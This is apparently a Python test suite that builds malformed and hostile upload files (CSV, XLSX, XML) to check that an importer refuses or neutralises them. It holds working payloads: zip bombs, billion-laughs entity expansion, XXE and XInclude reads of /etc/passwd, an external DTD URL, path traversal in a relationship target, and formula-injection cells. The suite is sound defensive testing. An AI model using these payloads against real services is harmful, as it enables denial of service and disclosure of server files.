@case("csv-nul-in-header", "nul.csv")
def _(k: KindSpec) -> bytes:
    return csv_bytes([k.header[0] + "\x00", *k.header[1:]], k.rows())


@case("all-nul", "zeros.csv", expect=refused())
def _(k: KindSpec) -> bytes:
    return b"\x00" * 4096


@case("all-nul-xlsx", "zeros.xlsx", expect=refused())
def _(k: KindSpec) -> bytes:
    return b"\x00" * 4096


@case("xml-plain-nul-character-reference", "nul.xml")
def _(k: KindSpec) -> bytes:
    tree = plain_xml_tree(k.header, k.rows())
    tree.children[0].children[0].raw = "ann&#0;lee"
    return document(tree)


@case("xml-plain-raw-nul", "nul.xml")
def _(k: KindSpec) -> bytes:
    return plain_xml(k.header, k.rows()).replace(b"ann.lee", b"ann\x00lee")


@case("xml-2003-nul-character-reference", "nul.xml")
def _(k: KindSpec) -> bytes:
    tree = xml_2003_tree(table_of(k, k.rows()))
    tree.find_all("Data")[len(k.header)].raw = "x&#0;y"
    return document(tree, prolog=XML_2003_PROLOG)


@case("xlsx-nul-in-shared-string", "nul.xlsx")
def _(k: KindSpec) -> bytes:
    def change(parts: dict[str, Any]) -> None:
        parts[SHARED_PATH].find_all("t")[-1].raw = "nul&#0;here"

    return xlsx_with(table_of(k, k.rows()), change)


@case("xlsx-raw-nul-in-sheet", "nul.xlsx")
def _(k: KindSpec) -> bytes:
    def change(parts: dict[str, Any]) -> None:
        parts[SHEET_PATH] = document(parts[SHEET_PATH]).replace(b"<sheetData>", b"<sheetData>\x00\x00")

    return xlsx_with(table_of(k, k.rows()), change)


# --- Mislabelled and foreign files --------------------------------------------------------------------


@case("png-named-csv", "photo.csv", expect=refused(INCORRECT_FORMAT))
def _(k: KindSpec) -> bytes:
    return PNG


@case("xls-ole-named-csv", "old.csv", expect=refused(INCORRECT_FORMAT))
def _(k: KindSpec) -> bytes:
    return OLE


@case("xls-ole-named-xlsx", "old.xlsx", expect=refused(INCORRECT_FORMAT))
def _(k: KindSpec) -> bytes:
    return OLE


@case("xlsx-named-csv", "sheet.csv", expect=refused(INCORRECT_FORMAT))
def _(k: KindSpec) -> bytes:
    return xlsx(table_of(k, k.rows()))


@case("csv-named-xlsx", "rows.xlsx", expect=refused(INCORRECT_FORMAT))
def _(k: KindSpec) -> bytes:
    return csv_bytes(k.header, k.rows())


@case("xml-named-csv", "rows.csv", expect=refused(INCORRECT_FORMAT))
def _(k: KindSpec) -> bytes:
    return plain_xml(k.header, k.rows())


@case("csv-named-xml", "rows.xml", expect=refused(INCORRECT_FORMAT))
def _(k: KindSpec) -> bytes:
    return csv_bytes(k.header, k.rows())


@case("zip-not-a-workbook", "archive.xlsx", expect=refused(INCORRECT_FORMAT))
def _(k: KindSpec) -> bytes:
    return zip_parts(
        {"readme.txt": csv_text(k.header, k.rows()), "data/rows.csv": csv_text(k.header, k.rows())}
    )


@case("zip-not-a-workbook-named-csv", "archive.csv", expect=refused(INCORRECT_FORMAT))
def _(k: KindSpec) -> bytes:
    return zip_parts({"rows.csv": csv_text(k.header, k.rows())})


@case("xml-root-not-rows", "other.xml", expect=refused(INCORRECT_FORMAT))
def _(k: KindSpec) -> bytes:
    return b'<?xml version="1.0"?><html><body><row><username>ann.lee</username></row></body></html>'


# --- Zip bombs and lying zips -------------------------------------------------------------------------


def every_header() -> tuple[str, ...]:
    """Every kind's columns in one header, so that one bomb (built once, cached) fits every kind."""
    return tuple(dict.fromkeys(c.name for slug in KIND_SLUGS for c in get_kind(slug).columns))


def every_row() -> list[str]:
    values = {
        "Certification ID": AWARDED_CERTIFICATION,
        "User ID": ASCII[0],
        "Username": ASCII[0],
        "Activity external reference": ACTIVITY,
        "Send unenrolment email": "No",
        "License code": LICENCE_CODE,
        "Number": "RN-0001",
        "Action": "Add",
    }
    return [values.get(name, "") for name in every_header()]


@functools.lru_cache(maxsize=2)
def _bomb(filler: bytes, repeat: int) -> bytes:
    return streamed_xlsx([list(every_header()), every_row()], filler, repeat)


ROW_BOMB_UNIT = b'<row><c t="inlineStr"><is><t>x</t></is></c></row>'


@case("xlsx-bomb-repeated-rows", "bomb.xlsx", expect=refused(), slow=True)
def _(k: KindSpec) -> bytes:
    # ~300 MB of rows once unzipped, some 900 KB zipped.
    return _bomb(ROW_BOMB_UNIT, 300 * MB // len(ROW_BOMB_UNIT))


@case("xlsx-bomb-whitespace", "bomb.xlsx", expect=refused(), slow=True)
def _(k: KindSpec) -> bytes:
    # 1 GB of spaces between two rows, about 1 MB zipped.
    return _bomb(b" ", 1024 * MB)


@functools.lru_cache(maxsize=2)
def _lying(member: str) -> bytes:
    rows = [list(every_header()), every_row()]
    if member == SHEET_PATH:
        data = streamed_xlsx(rows, b" ", 200 * MB)
    else:
        strings = "".join(f"<si><t>{n}</t></si>" for n in range(2_000_000))
        data = xlsx_with(
            rows,
            lambda parts: parts.__setitem__(SHARED_PATH, f'<sst xmlns="{MAIN}">{strings}</sst>'),
            shared=False,
        )
    return patch_entry(data, member, file_size=1000)


@case("xlsx-lying-size-sheet", "liar.xlsx", expect=refused(), slow=True)
def _(k: KindSpec) -> bytes:
    # The local header and central directory say 1,000 bytes; the deflate stream gives 200 MB.
    return _lying(SHEET_PATH)


@case("xlsx-lying-size-shared-strings", "liar.xlsx", expect=refused(), slow=True)
def _(k: KindSpec) -> bytes:
    # Says 1,000 bytes; holds 2,000,000 shared strings (36 MB).
    return _lying(SHARED_PATH)


@case("xlsx-declared-4gb-member", "liar.xlsx")
def _(k: KindSpec) -> bytes:
    return patch_entry(xlsx(table_of(k, k.rows())), SHEET_PATH, file_size=0xFFFFFFFE)


@case("xlsx-two-million-shared-strings", "strings.xlsx")
def _(k: KindSpec) -> bytes:
    def change(parts: dict[str, Any]) -> None:
        parts[SHARED_PATH] = f'<sst xmlns="{MAIN}">' + "<si/>" * 2_100_000 + "</sst>"

    return xlsx_with(table_of(k, k.rows()), change, shared=False)


@case("xlsx-truncated-zip", "cut.xlsx", expect=refused(INCORRECT_FORMAT))
def _(k: KindSpec) -> bytes:
    data = xlsx(table_of(k, k.rows()))
    return data[: len(data) // 2]


@case("xlsx-corrupt-deflate-stream", "corrupt.xlsx")
def _(k: KindSpec) -> bytes:
    data = bytearray(xlsx(table_of(k, k.rows(ACCENTED))))
    begin, end = member_span(bytes(data), SHEET_PATH)
    for at in range(begin + 2, end - 2, 7):
        data[at] ^= 0x5A
    return bytes(data)


@case("xlsx-encrypted-flag", "locked.xlsx")
def _(k: KindSpec) -> bytes:
    return patch_entry(xlsx(table_of(k, k.rows())), SHEET_PATH, flags_or=0x1)


@case("xlsx-deflate64-method", "method.xlsx")
def _(k: KindSpec) -> bytes:
    return patch_entry(xlsx(table_of(k, k.rows())), SHEET_PATH, method=9)


@case("xlsx-many-zip-members", "crowded.xlsx", slow=True)
def _(k: KindSpec) -> bytes:
    parts: dict[str, Node | bytes | str] = dict(workbook_tree(table_of(k, k.rows())))
    parts.update({f"xl/media/image{n}.bin": b"" for n in range(60_000)})
    return zip_parts(parts, compression=zipfile.ZIP_STORED)


# --- Far cell references and huge indexes -------------------------------------------------------------


def _sheet(k: KindSpec, extra: str) -> bytes:
    """A workbook of the kind's header and a valid row, with ``extra`` appended inside sheetData."""

    def change(parts: dict[str, Any]) -> None:
        parts[SHEET_PATH] = document(parts[SHEET_PATH]).replace(
            b"</sheetData>", extra.encode() + b"</sheetData>"
        )

    return xlsx_with(table_of(k, k.rows()[:1]), change, shared=False)


@case("xlsx-cell-at-XFD1048576", "far.xlsx")
def _(k: KindSpec) -> bytes:
    return _sheet(k, '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>last</t></is></c></row>')


@case("xlsx-row-r-1048576", "far.xlsx")
def _(k: KindSpec) -> bytes:
    return _sheet(k, '<row r="1048576"><c t="inlineStr"><is><t>far</t></is></c></row>')


@case("xlsx-row-r-99999999999", "far.xlsx")
def _(k: KindSpec) -> bytes:
    return _sheet(k, '<row r="99999999999"><c t="inlineStr"><is><t>farther</t></is></c></row>')


@case("xlsx-row-r-negative", "far.xlsx")
def _(k: KindSpec) -> bytes:
    return _sheet(k, '<row r="-5"><c t="inlineStr"><is><t>before</t></is></c></row>')


@case("xlsx-row-r-superscript-digit", "far.xlsx")
def _(k: KindSpec) -> bytes:
    return _sheet(k, '<row r="²"><c t="inlineStr"><is><t>two</t></is></c></row>')


@case("xlsx-row-r-arabic-indic-digit", "far.xlsx")
def _(k: KindSpec) -> bytes:
    return _sheet(k, '<row r="٣"><c t="inlineStr"><is><t>three</t></is></c></row>')


@case("xlsx-cell-ref-garbage", "far.xlsx")
def _(k: KindSpec) -> bytes:
    return _sheet(
        k,
        '<row><c r="ÿ1" t="inlineStr"><is><t>a</t></is></c><c r="@3" t="inlineStr"><is><t>b</t></is></c>'
        '<c r="A٣" t="inlineStr"><is><t>c</t></is></c><c r="1A" t="inlineStr"><is><t>d</t></is></c></row>',
    )


@case("xlsx-dimension-whole-sheet", "dimension.xlsx")
def _(k: KindSpec) -> bytes:
    def change(parts: dict[str, Any]) -> None:
        parts[SHEET_PATH].children.insert(0, Node("dimension", {"ref": "A1:XFD1048576"}))

    return xlsx_with(table_of(k, k.rows()), change)


@case("xlsx-merge-whole-sheet", "merge.xlsx")
def _(k: KindSpec) -> bytes:
    def change(parts: dict[str, Any]) -> None:
        parts[SHEET_PATH].children.append(
            Node("mergeCells", {"count": "1"}, [Node("mergeCell", {"ref": "A2:XFD1048576"})])
        )

    return xlsx_with(table_of(k, k.rows()), change)


@case("xlsx-row-spans-whole-width", "spans.xlsx")
def _(k: KindSpec) -> bytes:
    def change(parts: dict[str, Any]) -> None:
        for row in parts[SHEET_PATH].find_all("row"):
            row.attrs["spans"] = "1:16384"

    return xlsx_with(table_of(k, k.rows()), change)


def _ss_row(attrs: dict[str, str], cell_attrs: dict[str, str] | None = None) -> Node:
    return Node(
        "Row", attrs, [Node("Cell", cell_attrs or {}, [Node("Data", {"ss:Type": "String"}, text="x")])]
    )


def _xml_2003_plus(k: KindSpec, extra: Node) -> bytes:
    tree = xml_2003_tree(table_of(k, k.rows()))
    tree.find("Table").children.append(extra)
    return document(tree, prolog=XML_2003_PROLOG)


@case("xml-2003-row-index-huge", "index.xml")
def _(k: KindSpec) -> bytes:
    return _xml_2003_plus(k, _ss_row({"ss:Index": "99999999999999999999"}))


@case("xml-2003-cell-index-huge", "index.xml")
def _(k: KindSpec) -> bytes:
    return _xml_2003_plus(k, _ss_row({}, {"ss:Index": "99999999"}))


@case("xml-2003-row-index-negative", "index.xml")
def _(k: KindSpec) -> bytes:
    return _xml_2003_plus(k, _ss_row({"ss:Index": "-3"}))


@case("xml-2003-row-index-superscript", "index.xml")
def _(k: KindSpec) -> bytes:
    return _xml_2003_plus(k, _ss_row({"ss:Index": "²"}))


@case("xml-2003-cell-index-superscript", "index.xml")
def _(k: KindSpec) -> bytes:
    return _xml_2003_plus(k, _ss_row({}, {"ss:Index": "²"}))


@case("xml-2003-row-index-arabic-indic", "index.xml")
def _(k: KindSpec) -> bytes:
    return _xml_2003_plus(k, _ss_row({"ss:Index": "٣٣"}))


@case("xml-2003-cell-index-arabic-indic", "index.xml")
def _(k: KindSpec) -> bytes:
    return _xml_2003_plus(k, _ss_row({}, {"ss:Index": "٣"}))


@case("xml-2003-row-index-backwards", "index.xml")
def _(k: KindSpec) -> bytes:
    tree = xml_2003_tree(table_of(k, k.rows()))
    rows = tree.find("Table").children
    rows[1].attrs["ss:Index"] = "9"
    rows[2].attrs["ss:Index"] = "2"
    return document(tree, prolog=XML_2003_PROLOG)


@case("xml-2003-merge-across-huge", "merge.xml")
def _(k: KindSpec) -> bytes:
    return _xml_2003_plus(k, _ss_row({}, {"ss:MergeAcross": "99999999", "ss:MergeDown": "99999999"}))


@case("xml-2003-table-expanded-counts-huge", "counts.xml")
def _(k: KindSpec) -> bytes:
    tree = xml_2003_tree(table_of(k, k.rows()))
    tree.find("Table").attrs.update({"ss:ExpandedRowCount": "99999999999", "ss:ExpandedColumnCount": "16384"})
    return document(tree, prolog=XML_2003_PROLOG)


# --- Deep nesting -------------------------------------------------------------------------------------

DEPTH = 100_000


@case("xml-plain-deep-nesting", "deep.xml")
def _(k: KindSpec) -> bytes:
    tree = plain_xml_tree(k.header, k.rows())
    tree.children[0].children[0].raw = "<a>" * DEPTH + "ann.lee" + "</a>" * DEPTH
    return document(tree)


@case("xml-plain-deep-rows", "deep.xml")
def _(k: KindSpec) -> bytes:
    return b"<rows>" + b"<row>" * DEPTH + b"</row>" * DEPTH + b"</rows>"


@case("xml-2003-deep-nesting", "deep.xml")
def _(k: KindSpec) -> bytes:
    tree = xml_2003_tree(table_of(k, k.rows()))
    tree.find_all("Data")[len(k.header)].raw = "<B>" * DEPTH + "x" + "</B>" * DEPTH
    return document(tree, prolog=XML_2003_PROLOG)


@case("xlsx-deep-nesting", "deep.xlsx")
def _(k: KindSpec) -> bytes:
    return _sheet(k, "<row><c><is>" + "<r>" * DEPTH + "</r>" * DEPTH + "</is></c></row>")


# --- DTDs and entities --------------------------------------------------------------------------------


@case("xml-plain-dtd", "dtd.xml", expect=refused(INCORRECT_FORMAT))
def _(k: KindSpec) -> bytes:
    return (
        b'<?xml version="1.0"?>\n<!DOCTYPE rows [<!ELEMENT rows ANY>]>\n'
        + plain_xml_tree(k.header, k.rows()).render().encode()
    )


@case("xml-plain-billion-laughs", "laughs.xml", expect=refused(INCORRECT_FORMAT))
def _(k: KindSpec) -> bytes:
    tree = plain_xml_tree(k.header, k.rows())
    tree.children[0].children[0].raw = "&lol9;"
    return ('<?xml version="1.0"?>\n' + BILLION_LAUGHS_DTD + tree.render()).encode()


@case("xml-plain-quadratic-blowup", "blowup.xml", expect=refused(INCORRECT_FORMAT))
def _(k: KindSpec) -> bytes:
    tree = plain_xml_tree(k.header, k.rows())
    tree.children[0].children[0].raw = "&a;" * 50_000
    return (
        f'<?xml version="1.0"?>\n<!DOCTYPE rows [<!ENTITY a "{"x" * 50_000}">]>\n' + tree.render()
    ).encode()


@case("xml-plain-external-entity", "secret.xml", expect=refused(INCORRECT_FORMAT))
def _(k: KindSpec) -> bytes:
    tree = plain_xml_tree(k.header, k.rows())
    tree.children[0].children[0].raw = "&secret;"
    return ('<?xml version="1.0"?>\n' + EXTERNAL_DTD + tree.render()).encode()


@case("xml-plain-external-dtd", "secret.xml", expect=refused(INCORRECT_FORMAT))
def _(k: KindSpec) -> bytes:
    return (
        '<?xml version="1.0"?>\n<!DOCTYPE rows SYSTEM "http://127.0.0.1:9/evil.dtd">\n'
        + plain_xml_tree(k.header, k.rows()).render()
    ).encode()


@case("xml-plain-parameter-entity", "secret.xml", expect=refused(INCORRECT_FORMAT))
def _(k: KindSpec) -> bytes:
    return (
        '<?xml version="1.0"?>\n<!DOCTYPE rows [<!ENTITY % remote SYSTEM "file:///etc/passwd"> %remote;]>\n'
        + plain_xml_tree(k.header, k.rows()).render()
    ).encode()


@case("xml-plain-xinclude", "include.xml", expect=Expect(absent=("root:",)))
def _(k: KindSpec) -> bytes:
    tree = plain_xml_tree(k.header, k.rows())
    tree.attrs["xmlns:xi"] = "http://www.w3.org/2001/XInclude"
    tree.children[0].children[-1].raw = '<xi:include href="file:///etc/passwd" parse="text"/>'
    return document(tree)


@case("xml-2003-billion-laughs", "laughs.xml", expect=refused(INCORRECT_FORMAT))
def _(k: KindSpec) -> bytes:
    tree = xml_2003_tree(table_of(k, k.rows()))
    tree.find_all("Data")[len(k.header)].raw = "&lol9;"
    return (
        '<?xml version="1.0"?>\n' + BILLION_LAUGHS_DTD.replace("lolz", "Workbook") + tree.render()
    ).encode()


@case("xlsx-billion-laughs-in-sheet", "laughs.xlsx", expect=refused(INCORRECT_FORMAT))
def _(k: KindSpec) -> bytes:
    def change(parts: dict[str, Any]) -> None:
        sheet = parts[SHEET_PATH]
        sheet.find_all("t")[-1].raw = "&lol9;"
        parts[SHEET_PATH] = (
            '<?xml version="1.0"?>\n' + BILLION_LAUGHS_DTD.replace("lolz", "worksheet") + sheet.render()
        ).encode()

    return xlsx_with(table_of(k, k.rows()), change, shared=False)


@case("xlsx-external-entity-in-shared-strings", "secret.xlsx", expect=refused(INCORRECT_FORMAT))
def _(k: KindSpec) -> bytes:
    def change(parts: dict[str, Any]) -> None:
        sst = parts[SHARED_PATH]
        sst.find_all("t")[-1].raw = "&secret;"
        parts[SHARED_PATH] = (
            '<?xml version="1.0"?>\n' + EXTERNAL_DTD.replace("rows", "sst") + sst.render()
        ).encode()

    return xlsx_with(table_of(k, k.rows()), change)


# --- Big cells, wide files, duplicate headers ---------------------------------------------------------


def big_cell_size(k: KindSpec) -> int:
    """5 MB, or as much as fits under the kind's limit."""
    return min(5 * MB, k.max_bytes - 64 * 1024)


@case("csv-5mb-cell", "big.csv", slow=True)
def _(k: KindSpec) -> bytes:
    rows = k.rows()
    rows[0][k.key_index()] = "x" * big_cell_size(k)
    return csv_bytes(k.header, rows)


@case("xlsx-5mb-cell", "big.xlsx", slow=True)
def _(k: KindSpec) -> bytes:
    rows = k.rows()
    rows[0][k.key_index()] = "y" * (5 * MB)
    return xlsx(table_of(k, rows), shared=False)


@case("xml-plain-5mb-cell", "big.xml", slow=True)
def _(k: KindSpec) -> bytes:
    rows = k.rows()
    rows[0][k.key_index()] = "z" * big_cell_size(k)
    return plain_xml(k.header, rows)


@case("xml-2003-5mb-attribute", "big.xml", slow=True)
def _(k: KindSpec) -> bytes:
    tree = xml_2003_tree(table_of(k, k.rows()))
    tree.find("Worksheet").attrs["ss:Name"] = "n" * big_cell_size(k)
    return document(tree, prolog=XML_2003_PROLOG)


WIDE = 100_000


@case("csv-100k-column-header", "wide.csv", expect=refused(INVALID_COLUMNS, INCORRECT_FORMAT))
def _(k: KindSpec) -> bytes:
    header = [*k.header, *(f"c{n}" for n in range(WIDE - len(k.header)))]
    return csv_bytes(header, [k.row(ASCII[0]) + ["v"] * (WIDE - len(k.header))])


@case("csv-100k-values-in-a-row", "wide.csv")
def _(k: KindSpec) -> bytes:
    return csv_bytes(k.header, [k.row(ASCII[0]), k.row(ASCII[1]) + ["v"] * WIDE])


@case("xlsx-100k-columns", "wide.xlsx", expect=refused(INVALID_COLUMNS, INCORRECT_FORMAT))
def _(k: KindSpec) -> bytes:
    cells = "".join(f'<c t="inlineStr"><is><t>c{n}</t></is></c>' for n in range(WIDE))
    data_cells = '<c t="inlineStr"><is><t>v</t></is></c>' * WIDE

    def change(parts: dict[str, Any]) -> None:
        parts[SHEET_PATH] = (
            f'{XML_DECLARATION}<worksheet xmlns="{MAIN}"><sheetData><row>{cells}</row><row>{data_cells}</row>'
            "</sheetData></worksheet>"
        )

    return xlsx_with([], change)


@case("xml-plain-100k-column-names", "wide.xml", expect=refused(INVALID_COLUMNS, INCORRECT_FORMAT))
def _(k: KindSpec) -> bytes:
    fields = "".join(f"<c{n}>v</c{n}>" for n in range(WIDE))
    return f"<rows><row>{fields}</row></rows>".encode()


@case("xml-2003-100k-cells-in-header", "wide.xml", expect=refused(INVALID_COLUMNS, INCORRECT_FORMAT))
def _(k: KindSpec) -> bytes:
    return xml_2003([[*k.header, *(f"c{n}" for n in range(WIDE))], k.row(ASCII[0])])


@case("csv-duplicate-headers", "twice.csv", expect=refused(INVALID_COLUMNS))
def _(k: KindSpec) -> bytes:
    return csv_bytes([*k.header, k.header[0].upper()], [[*r, r[0]] for r in k.rows()])


@case("xlsx-duplicate-headers", "twice.xlsx", expect=refused(INVALID_COLUMNS))
def _(k: KindSpec) -> bytes:
    return xlsx([[*k.header, k.header[-1]], *[[*r, r[-1]] for r in k.rows()]])


@case("xml-plain-duplicate-field-in-a-row", "twice.xml")
def _(k: KindSpec) -> bytes:
    tree = plain_xml_tree(k.header, k.rows())
    first = tree.children[0]
    first.children.append(Node(first.children[0].tag, text="someone.else"))
    return document(tree)


# --- Quoting and line endings -------------------------------------------------------------------------


@case("csv-unterminated-quote", "quote.csv", expect=refused(row=3))
def _(k: KindSpec) -> bytes:
    rows = [",".join(r) for r in k.rows()]
    rows[1] = '"' + rows[1]  # row 3 opens a quote that never closes
    return (
        "\r\n".join([",".join(k.header), *rows, *[",".join(k.row(p, 9)) for p in ACCENTED]]) + "\r\n"
    ).encode()


@case("csv-quote-inside-unquoted-field", "quote.csv")
def _(k: KindSpec) -> bytes:
    rows = k.rows()
    text = csv_text(k.header, rows).replace(rows[1][k.key_index()], 'bob"ray', 1)
    return text.encode()


@case("csv-cr-only-line-endings", "mac.csv", expect=lambda k: job_with(k, ACCENTED))
def _(k: KindSpec) -> bytes:
    return csv_bytes(k.header, k.rows(ACCENTED), newline="\r")


@case("csv-mixed-line-endings", "mixed.csv", expect=lambda k: job_with(k, ACCENTED))
def _(k: KindSpec) -> bytes:
    lines = csv_text(k.header, k.rows(ACCENTED), newline="\n").splitlines()
    endings = ["\r", "\n", "\r\n"]
    return "".join(line + endings[n % 3] for n, line in enumerate(lines)).encode()


@case("csv-control-characters", "controls.csv")
def _(k: KindSpec) -> bytes:
    rows = k.rows()
    rows[0].append("\x1a\x0b\x0c\x1b[31mred\x1b[0m\u202eevil\u2028line\u2029para\ufeff")
    return csv_bytes([*k.header, "Note"], rows)


@case("csv-ragged-rows", "ragged.csv")
def _(k: KindSpec) -> bytes:
    rows = k.rows()
    rows[0] = rows[0] + ["extra"] * 500
    rows[1] = rows[1][:1]
    return csv_bytes(k.header, rows)


# --- Formula cells: neutralised in the results file ---------------------------------------------------


def formula_rows(k: KindSpec) -> list[list[str]]:
    rows = [[*k.row(ASCII[n % len(ASCII)], n), f] for n, f in enumerate(FORMULAS)]
    if not k.strict:  # a per-row kind keeps a formula in its key column as that row's value
        for n, f in enumerate(FORMULAS):
            row = [*k.row("x", 50 + n), "note"]
            row[k.key_index()] = f
            rows.append(row)
    return rows


def formula_expect(spec: KindSpec) -> Expect:
    return Expect(refused=False, neutralised=FORMULAS)


@case("csv-formula-cells", "formulas.csv", expect=formula_expect)
def _(k: KindSpec) -> bytes:
    return csv_bytes([*k.header, "Note"], formula_rows(k))


@case("xlsx-formula-cells", "formulas.xlsx", expect=formula_expect)
def _(k: KindSpec) -> bytes:
    return xlsx([[*k.header, "Note"], *formula_rows(k)])


@case("xml-plain-formula-cells", "formulas.xml", expect=formula_expect)
def _(k: KindSpec) -> bytes:
    return plain_xml([*k.header, "Note"], formula_rows(k))


@case("xml-2003-formula-cells", "formulas.xml", expect=formula_expect)
def _(k: KindSpec) -> bytes:
    return xml_2003([[*k.header, "Note"], *formula_rows(k)])


# --- .xlsx internals ----------------------------------------------------------------------------------


@case("xlsx-numfmt-without-numfmtid", "styles.xlsx")
def _(k: KindSpec) -> bytes:
    def change(parts: dict[str, Any]) -> None:
        parts[STYLES_PATH].find("numFmt").attrs = {"formatCode": "yyyy"}

    return xlsx_with(table_of(k, k.rows()), change)


@case("xlsx-numfmtid-not-a-number", "styles.xlsx")
def _(k: KindSpec) -> bytes:
    def change(parts: dict[str, Any]) -> None:
        parts[STYLES_PATH].find("numFmt").attrs["numFmtId"] = "date"
        parts[STYLES_PATH].find_all("xf")[-1].attrs["numFmtId"] = "1e3"

    return xlsx_with(table_of(k, k.rows()), change)


@case("xlsx-relationship-without-target", "rels.xlsx")
def _(k: KindSpec) -> bytes:
    def change(parts: dict[str, Any]) -> None:
        del parts[RELS_PATH].children[0].attrs["Target"]

    return xlsx_with(table_of(k, k.rows()), change)


@case("xlsx-relationships-missing", "rels.xlsx")
def _(k: KindSpec) -> bytes:
    def change(parts: dict[str, Any]) -> None:
        del parts[RELS_PATH]

    return xlsx_with(table_of(k, k.rows()), change)


@case("xlsx-relationship-target-outside", "rels.xlsx", expect=Expect(absent=("root:",)))
def _(k: KindSpec) -> bytes:
    def change(parts: dict[str, Any]) -> None:
        parts[RELS_PATH].children[0].attrs["Target"] = "../../../../../../etc/passwd"

    return xlsx_with(table_of(k, k.rows()), change)


def _date_cell(k: KindSpec, value: str) -> bytes:
    rows: list[list[str | Cell]] = [list(k.header)]
    for n, person in enumerate(ASCII):
        row: list[str | Cell] = list(k.row(person, n))
        if n == 1:
            row[k.header.index("Issue date") if "Issue date" in k.header else len(row) - 1] = Cell(
                value, s=DATE_STYLE
            )
        rows.append(row)
    return xlsx(rows)


@case("xlsx-date-cell-1e10", "dates.xlsx")
def _(k: KindSpec) -> bytes:
    return _date_cell(k, "1e10")


@case("xlsx-date-cell-inf", "dates.xlsx")
def _(k: KindSpec) -> bytes:
    return _date_cell(k, "inf")


@case("xlsx-date-cell-nan", "dates.xlsx")
def _(k: KindSpec) -> bytes:
    return _date_cell(k, "nan")


@case("xlsx-date-cell-minus-1", "dates.xlsx")
def _(k: KindSpec) -> bytes:
    return _date_cell(k, "-1")


@case("xlsx-date-cell-1e308", "dates.xlsx")
def _(k: KindSpec) -> bytes:
    return _date_cell(k, "1e308")


@case("xlsx-odd-cell-types", "types.xlsx")
def _(k: KindSpec) -> bytes:
    rows: list[list[str | Cell]] = [list(k.header)]
    odd = [Cell("2", "b"), Cell("not-a-date", "d"), Cell("#REF!", "e"), Cell("abc", "n"), Cell("1", "zz")]
    for n, cell in enumerate(odd):
        row: list[str | Cell] = list(k.row(ASCII[n % 3], n))
        row[-1] = cell
        rows.append(row)
    return xlsx(rows)


@case("xlsx-style-index-out-of-range", "styles.xlsx")
def _(k: KindSpec) -> bytes:
    rows: list[list[str | Cell]] = [list(k.header)]
    for n, s in enumerate(["99999999999999999999", "-1", "x"]):
        row: list[str | Cell] = list(k.row(ASCII[n], n))
        row[-1] = Cell("45000", s=s)
        rows.append(row)
    return xlsx(rows)


def _shared_index(k: KindSpec, index: str) -> bytes:
    def change(parts: dict[str, Any]) -> None:
        parts[SHEET_PATH].find_all("v")[-1].text = index

    return xlsx_with(table_of(k, k.rows()), change)


@case("xlsx-shared-string-index-out-of-range", "strings.xlsx")
def _(k: KindSpec) -> bytes:
    return _shared_index(k, "99999")


@case("xlsx-shared-string-index-negative", "strings.xlsx")
def _(k: KindSpec) -> bytes:
    return _shared_index(k, "-1")


@case("xlsx-shared-string-index-not-a-number", "strings.xlsx")
def _(k: KindSpec) -> bytes:
    return _shared_index(k, "zero")


@case("xlsx-sheet-without-sheetdata", "nodata.xlsx", expect=refused())
def _(k: KindSpec) -> bytes:
    def change(parts: dict[str, Any]) -> None:
        parts[SHEET_PATH].children = []

    return xlsx_with(table_of(k, k.rows()), change)


@case("xlsx-workbook-without-sheets", "nosheets.xlsx", expect=refused())
def _(k: KindSpec) -> bytes:
    def change(parts: dict[str, Any]) -> None:
        parts[WORKBOOK_PATH].children = []

    return xlsx_with(table_of(k, k.rows()), change)


@case("xlsx-sheet-part-empty", "empty-sheet.xlsx", expect=refused())
def _(k: KindSpec) -> bytes:
    def change(parts: dict[str, Any]) -> None:
        parts[SHEET_PATH] = b""

    return xlsx_with(table_of(k, k.rows()), change)


@case("xlsx-sheet-not-spreadsheetml", "foreign.xlsx")
def _(k: KindSpec) -> bytes:
    def change(parts: dict[str, Any]) -> None:
        parts[SHEET_PATH] = "<html><body><row><c>1</c></row></body></html>"

    return xlsx_with(table_of(k, k.rows()), change)


# --- At the byte limit --------------------------------------------------------------------------------


def too_many_rows_or_job(spec: KindSpec) -> Expect:
    """Refused quickly with too_many_rows, or a job; a strict kind may also list its rows' problems."""
    codes = {TOO_MANY_ROWS}
    if spec.strict:
        codes |= {INVALID_DATA_FORMATS, INVALID_CERTIFICATION, INVALID_USERS}
    return Expect(codes=frozenset(codes))


@case("csv-million-blank-lines-at-limit", "blank.csv", expect=too_many_rows_or_job, slow=True)
def _(k: KindSpec) -> bytes:
    return fill_to(csv_bytes(k.header, k.rows()[:1]), b"\n", k.max_bytes)


@case("csv-one-character-rows-at-limit", "tiny.csv", expect=too_many_rows_or_job, slow=True)
def _(k: KindSpec) -> bytes:
    return fill_to(csv_bytes(k.header, k.rows()[:1], newline="\n"), b"1\n", k.max_bytes)


@case("txt-one-character-rows-at-limit", "tiny.txt", expect=too_many_rows_or_job, slow=True)
def _(k: KindSpec) -> bytes:
    return fill_to(csv_bytes(k.header, k.rows()[:1], delimiter="\t", newline="\n"), b"1\n", k.max_bytes)


@case("xml-plain-empty-rows-at-limit", "rows.xml", expect=too_many_rows_or_job, slow=True)
def _(k: KindSpec) -> bytes:
    head = plain_xml(k.header, k.rows()[:1]).removesuffix(b"</rows>")
    return fill_to(head, b"<row/>", k.max_bytes - len(b"</rows>")) + b"</rows>"


@case("xml-2003-empty-rows-at-limit", "rows.xml", expect=too_many_rows_or_job, slow=True)
def _(k: KindSpec) -> bytes:
    tail = b"</Table></Worksheet></Workbook>"
    head = xml_2003(table_of(k, k.rows()[:1])).replace(tail, b"")
    return fill_to(head, b"<Row/>", k.max_bytes - len(tail)) + tail


@case("csv-one-byte-over-limit", "large.csv", expect=refused(FILE_TOO_LARGE), slow=True)
def _(k: KindSpec) -> bytes:
    data = fill_to(csv_bytes(k.header, k.rows()), b"\r\n", k.max_bytes)
    return data + b"\n" * (k.max_bytes + 1 - len(data))


@case("csv-one-line-at-limit", "line.csv", slow=True)
def _(k: KindSpec) -> bytes:
    return fill_to(",".join(k.header).encode(), b",", k.max_bytes)
